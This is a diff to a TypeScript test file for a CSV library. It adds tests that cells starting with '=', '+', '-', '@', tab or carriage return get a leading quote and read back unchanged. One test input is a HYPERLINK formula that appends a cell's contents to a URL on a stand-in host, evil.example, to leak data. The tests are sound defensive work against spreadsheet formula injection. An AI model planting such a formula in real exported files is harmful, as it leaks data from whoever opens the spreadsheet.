@@ -1,5 +1,5 @@
 import { describe, expect, it } from 'vitest';
-import { CsvReader, CsvSyntaxError, csvLine } from './csv.ts';
+import { CsvReader, CsvSyntaxError, csvLine, escapeFormula, unescapeFormula } from './csv.ts';
 
 function read(text: string, chunkSize = text.length || 1, maxRecordChars?: number) {
   const reader = new CsvReader(maxRecordChars === undefined ? {} : { maxRecordChars });
@@ -68,5 +68,40 @@ describe('writing', () => {
     const line = csvLine(fields);
     expect(line).toBe('plain,"with, comma","with ""quotes""","two\nlines",\n');
     expect(read(line)[0]!.fields).toEqual(fields);
+  });
+});
+
+describe('cells a spreadsheet would run as a formula', () => {
+  const formulaStart = /^[=+\-@\t\r]/;
+
+  it('are written with a leading quote, and so is a cell that starts with a quote; other cells are untouched', () => {
+    const values = ['=1+1', '+33 1', '-1', '@SUM(A1)', '\tx', '\rx', "'quoted", "''", 'plain', '', 'a=b', ' =1', '2024-05-01T12:00:00.000Z', 'true'];
+    expect(values.map(escapeFormula)).toEqual([
+      "'=1+1",
+      "'+33 1",
+      "'-1",
+      "'@SUM(A1)",
+      "'\tx",
+      "'\rx",
+      "''quoted",
+      "'''",
+      'plain',
+      '',
+      'a=b',
+      ' =1',
+      '2024-05-01T12:00:00.000Z',
+      'true',
+    ]);
+  });
+
+  it('never start a written cell, and read back into exactly the values written', () => {
+    const values = ['=HYPERLINK("https://evil.example/?leak="&B2,"More info")', '+1', '-1', '@x', '\t=1', '\r=1', "'", "'=1", "''x", 'plain', '', 'x=1'];
+    const [record] = read(csvLine(values));
+    expect(record!.fields.filter((cell) => formulaStart.test(cell))).toEqual([]);
+    expect(record!.fields.map(unescapeFormula)).toEqual(values);
+  });
+
+  it('unescaping takes exactly one leading quote off, and nothing else', () => {
+    expect(["'=1", "''x", "'", 'plain', "it's", ''].map(unescapeFormula)).toEqual(['=1', "'x", '', 'plain', "it's", '']);
   });
 });
